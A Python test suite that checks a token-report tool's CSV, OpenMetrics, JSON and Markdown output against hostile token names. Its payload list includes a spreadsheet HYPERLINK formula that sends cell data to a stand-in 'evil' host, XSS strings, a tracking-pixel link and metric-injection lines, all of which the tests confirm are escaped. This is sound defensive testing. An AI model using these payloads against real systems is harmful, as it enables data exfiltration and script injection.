"""Report formats against names chosen to attack their readers: spreadsheet formulas in
CSV, injected samples in OpenMetrics, raw C1 and bidi controls in JSON, links, images,
HTML and mentions in Markdown.

Each format is parsed back by a real parser (``csv``, prometheus_client's OpenMetrics
parser, ``json``, markdown-it) over generated names, and the oracles below restate the
rules independently of :mod:`gltui.report.escape`.
"""

from __future__ import annotations

import csv
import io
import json
import unicodedata
from datetime import UTC, datetime, timedelta

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from prometheus_client.openmetrics.parser import text_string_to_metric_families

from gltui.domain.changes import Baseline, Change, Seen, TokenChange
from gltui.domain.display import printable
from gltui.domain.states import TokenState
from gltui.domain.tokens import Owner, Resource, ResourceType, Token, TokenKind
from gltui.inventory.model import InstanceInventory, Inventory
from gltui.report.render import render_csv, render_json, render_markdown, render_openmetrics
from gltui.report.since import changes_text
from tests.conftest import NOW

C0 = {chr(code) for code in range(0x20)}
C1 = {chr(code) for code in range(0x80, 0xA0)}
BIDI = set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
SURROGATES = {chr(code) for code in range(0xD800, 0xE000)}
NEVER_RAW = (C0 - {"\r", "\n"}) | {"\x7f"} | C1 | BIDI | SURROGATES
"""Characters no CSV cell or OpenMetrics label value may carry raw."""
NEVER_RAW_IN_JSON = (C0 - {"\n"}) | {"\x7f"} | C1 | BIDI | SURROGATES | set("\u2028\u2029")
"""Raw in JSON output only as the indentation's line breaks."""

ATTACKS = [
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    " =",
    " \t+",
    "\u200b@",
    "\uff1d",  # FULLWIDTH EQUALS SIGN
    "\ufe62",  # SMALL PLUS SIGN
    "\uff20",  # FULLWIDTH COMMERCIAL AT
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "\x1b[31m",
    "\x00",
    "\x7f",
    "\x85",
    "\x9b",
    "\u202e",
    "\u2066",
    "\u2028",
    "\ud800",
    '"',
    ",",
    "\\",
    "\\x1b",
    "{",
    "}",
    '"} 1\ngltui_tokens{instance="x",state="active"} 9',
    "\n# EOF\n",
    "![x](http://evil/pixel)",
    "[x](javascript:alert(1))",
    "<http://evil>",
    "<img src=x onerror=alert(1)>",
    "|",
    "`code`",
    "**bold**",
    "@all",
    "@group",
    "&#64;all",
    "&lt;b&gt;",
    "#1",
    "~label",
    "$1",
    "clé 🔑",
]
NAMES = st.lists(st.sampled_from(ATTACKS) | st.text(st.characters(), max_size=6), max_size=6).map(
    "".join
)
"""Names built from the attacks above and any other characters (surrogates included)."""


def token(index: int, name: str, owner: str, *, expires_in: int = 30) -> Token:
    """A working project token (so every format lists it) whose path is ``owner``."""
    return Token(
        instance="work",
        kind=TokenKind.PROJECT,
        id=index,
        name=name,
        scopes=("read_api",),
        revoked=False,
        expires_at=NOW.date() + timedelta(days=expires_in),
        description=name,
        created_at=datetime(2026, 1, 1, tzinfo=UTC),
        owner=Owner(3, owner),
        resource=Resource(ResourceType.PROJECT, 4, owner),
    )


def label_of(owner: str) -> str:
    """How the reports name a resource with this path (an empty one by type and id)."""
    return owner or "project 4"


def inventory_of(names: list[str], owner: str, instance: str = "work") -> Inventory:
    tokens = tuple(token(i, name, owner) for i, name in enumerate(names))
    return Inventory((InstanceInventory(instance, "https://w", NOW, tokens=tokens),))


def visible(text: str, shown: set[str]) -> str:
    """The oracle for visible escapes: ``\\xNN`` up to U+00FF, ``\\uNNNN`` beyond."""
    return "".join(
        (f"\\x{ord(c):02x}" if ord(c) <= 0xFF else f"\\u{ord(c):04x}") if c in shown else c
        for c in text
    )


def label(text: str) -> str:
    """A label value as the parser gives it back: newlines via the spec's escape, every
    other control character (carriage return included) visible."""
    return visible(text, NEVER_RAW | {"\r"})


ZERO_WIDTH = "\u200b\u200c\u200d\u2060\ufeff"


def formula_like(cell: str) -> bool:
    """OWASP's first-character rule, also after leading whitespace and zero-width
    characters, and for NFKC look-alikes (fullwidth ``=``)."""
    if cell[:1] in ("\t", "\r"):
        return True
    first = next((c for c in cell if not c.isspace() and c not in ZERO_WIDTH), "")
    return unicodedata.normalize("NFKC", first)[:1] in ("=", "+", "-", "@")


def could_be_formula(cell: str) -> bool:
    """A leading ``'`` makes a cell text in every spreadsheet."""
    return not cell.startswith("'") and formula_like(cell)


def expected_csv(text: str) -> str:
    shown = visible(text, NEVER_RAW)
    return "'" + shown if formula_like(shown) else shown


@settings(max_examples=200, suppress_health_check=[HealthCheck.too_slow])
@given(names=st.lists(NAMES, min_size=1, max_size=4), owner=NAMES, instance=NAMES)
def test_csv_cells_never_start_a_formula(names: list[str], owner: str, instance: str) -> None:
    text = render_csv(inventory_of(names, owner, instance), NOW)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == len(names) + 1
    assert all(len(row) == len(rows[0]) == 15 for row in rows)
    assert text.endswith("\r\n")
    for row in rows[1:]:
        cells = dict(zip(rows[0], row, strict=True))
        for column in ("instance", "name", "scopes", "owner"):
            assert not could_be_formula(cells[column]), (column, cells[column])
            assert not set(cells[column]) & NEVER_RAW
        assert cells["days_left"] == "30"  # gltui's own number, untouched
    assert [row[3] for row in rows[1:]] == [expected_csv(name) for name in names]
    assert {row[9] for row in rows[1:]} == {expected_csv(label_of(owner))}


def test_csv_neutralises_text_but_not_gltuis_numbers() -> None:
    names = ["-3", " =1+2", "\uff1dcmd()", "@SUM(A1)", "\rx", "plain", "a-b"]
    tokens = tuple(
        token(i, name, "acme/api", expires_in=-3 if i == 0 else 5) for i, name in enumerate(names)
    )
    inventory = Inventory((InstanceInventory("work", "https://w", NOW, tokens=tokens),))
    rows = list(csv.DictReader(io.StringIO(render_csv(inventory, NOW), newline="")))
    assert [row["name"] for row in rows] == [
        "'-3",
        "' =1+2",
        "'\uff1dcmd()",
        "'@SUM(A1)",
        "'\rx",
        "plain",
        "a-b",
    ]
    assert rows[0]["days_left"] == "-3"  # a number gltui writes is not text to neutralise
    assert rows[0]["expires_at"] == (NOW.date() - timedelta(days=3)).isoformat()
    assert rows[0]["id"] == "0"


@settings(max_examples=200, suppress_health_check=[HealthCheck.too_slow])
@given(names=st.lists(NAMES, min_size=1, max_size=4), owner=NAMES, instance=NAMES)
def test_openmetrics_has_exactly_the_expected_samples(
    names: list[str], owner: str, instance: str
) -> None:
    text = render_openmetrics(inventory_of(names, owner, instance), NOW)
    lines = text.split("\n")
    assert lines[-2:] == ["# EOF", ""]
    assert lines.count("# EOF") == 1
    samples = [line for line in lines if line and not line.startswith("#")]
    assert len(samples) == 2 * len(names) + 4
    assert not set(text) & (NEVER_RAW | {"\r"})
    families = {
        family.name: family
        for family in text_string_to_metric_families(text)  # type: ignore[no-untyped-call]
    }
    days = families["gltui_token_days_left"].samples
    assert [s.labels["name"] for s in days] == [label(name) for name in names]
    assert {s.labels["owner"] for s in days} == {label(label_of(owner))}
    assert all(s.value == 30 for s in days)
    counts = families["gltui_tokens"].samples
    assert {s.labels["instance"] for s in counts} == {label(instance)}
    assert len(counts) == 4


@settings(max_examples=200, suppress_health_check=[HealthCheck.too_slow])
@given(names=st.lists(NAMES, min_size=1, max_size=4), owner=NAMES)
def test_json_has_no_raw_controls_and_round_trips(names: list[str], owner: str) -> None:
    text = render_json(inventory_of(names, owner), NOW)
    assert not set(text) & NEVER_RAW_IN_JSON
    (instance,) = json.loads(text)["instances"]
    assert [t["name"] for t in instance["tokens"]] == names
    assert [t["description"] for t in instance["tokens"]] == names


def test_json_keeps_ordinary_non_ascii_readable() -> None:
    text = render_json(inventory_of(["clé 🔑 \u05e9\u05dc\u05d5\u05dd", "a\x85b\u202ec"], "x"), NOW)
    assert '"clé 🔑 \u05e9\u05dc\u05d5\u05dd"' in text
    assert '"a\\u0085b\\u202ec"' in text


MARKDOWN = MarkdownIt("commonmark").enable("table")


def rendered_cells(text: str) -> list[list[tuple[str, list[str]]]]:
    """Each table row's cells as (text, inline token types), as markdown-it reads them."""
    rows: list[list[tuple[str, list[str]]]] = []
    for item in MARKDOWN.parse(text):
        if item.type == "tr_open":
            rows.append([])
        elif item.type == "inline" and rows and item.children is not None:
            kinds = [child.type for child in item.children]
            rows[-1].append(("".join(child.content for child in item.children), kinds))
    return rows


def literal(text: str) -> str:
    """What a cell must show: the name with control characters visible, ``@`` joined."""
    return printable(text).replace("@", "@\u2060").strip(" ")


@settings(max_examples=200, suppress_health_check=[HealthCheck.too_slow])
@given(names=st.lists(NAMES, min_size=1, max_size=4), owner=NAMES)
def test_markdown_shows_names_literally(names: list[str], owner: str) -> None:
    text = render_markdown(inventory_of(names, owner), NOW)
    for dangerous in ("![", "](", "<", "@all", "@group"):
        assert dangerous not in text
    html = MARKDOWN.render(text)
    for tag in ("<a ", "<img", "<code", "<em>", "<script", "<http"):
        assert tag not in html
    assert html.count("<strong>") == 1  # gltui's own totals line, nothing from a name
    header, *rows = rendered_cells(text)[-len(names) - 1 :]
    assert len(header) == 7
    assert len(rows) == len(names)
    assert all(len(row) == 7 for row in rows)
    assert all(kind == "text" for row in rows for _, kinds in row for kind in kinds)
    shown = sorted(row[2][0].strip(" ") for row in rows)
    assert shown == sorted(literal(name) for name in names)
    assert {row[5][0].strip(" ") for row in rows} == {literal(label_of(owner))}


def test_markdown_attacks_render_as_text() -> None:
    names = [
        "![x](http://evil/pixel)",
        "[x](javascript:alert(1))",
        "<http://evil> <img src=x onerror=alert(1)>",
        "ping @all and @group",
        "`code` | **bold** &#64;all",
    ]
    text = render_markdown(inventory_of(names, "acme/api"), NOW)
    html = MARKDOWN.render(text)
    assert "&lt;img src=x onerror=alert(1)&gt;" in html  # shown, not obeyed
    assert "<a " not in html
    assert "<img" not in html
    assert "&amp;#64;all" in html  # the entity's text, not an "@"
    rows = rendered_cells(text)[1:]
    assert sorted(row[2][0] for row in rows) == sorted(literal(name) for name in names)


def test_vanished_tokens_in_markdown_are_escaped() -> None:
    name = "![x](http://evil/p) @all"
    seen = Seen("work", "personal:7", TokenKind.PERSONAL, name, TokenState.ACTIVE, None, "mara")
    change = TokenChange(Change.VANISHED, seen, None)
    baseline = Baseline(NOW - timedelta(days=7), "review", {})
    text = changes_text(baseline, [change], markdown=True)
    assert "![" not in text
    assert "@all" not in text
    assert "@\u2060all" in text
    assert changes_text(baseline, [change], markdown=False).count(name) == 1
